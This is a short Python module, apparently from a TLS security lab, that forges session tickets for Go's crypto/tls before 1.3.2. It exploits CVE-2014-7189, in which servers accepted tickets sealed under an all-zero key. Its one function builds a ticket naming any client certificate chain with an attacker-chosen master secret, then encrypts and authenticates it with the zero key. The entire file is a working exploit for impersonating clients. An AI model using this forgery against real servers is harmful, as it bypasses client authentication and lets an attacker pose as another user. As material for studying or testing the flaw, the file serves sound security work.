"""A session ticket that anybody can make: in the format of Go's crypto/tls before 1.3.2, under a key of zeros.

A server that was told to give no tickets had no ticket key, and took tickets all the same: those under 32 bytes of
zeros (CVE-2014-7189). A ticket holds the certificates of the client that it was given to; a forged one names anybody.
No Go of that age was tried.
"""

import hmac
from hashlib import sha256

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from lab.tls import wire
from lab.tls.versions import TLS12

KEY = bytes(32)
"""AES-128 in counter mode under the first half, HMAC with SHA-256 under the second."""
SUITE = 0xC02F
"""ECDHE-RSA-AES128-GCM-SHA256. A resumed session takes no certificate of the server's, so that any key will do."""


def forged_ticket(chain: tuple[bytes, ...], master: bytes, suite: int, iv: bytes) -> bytes:
    """The ticket of a session of the owner of `chain` (DER), whose master secret the forger has chosen. `iv` has 16
    bytes."""
    state = wire.number(TLS12, 2) + wire.number(suite, 2) + wire.vector(master, 2) + wire.number(len(chain), 2)
    state += b"".join(wire.vector(der, 4) for der in chain)
    encryptor = Cipher(algorithms.AES(KEY[:16]), modes.CTR(iv)).encryptor()
    sealed = iv + encryptor.update(state) + encryptor.finalize()
    return sealed + hmac.digest(KEY[16:], sealed, sha256)
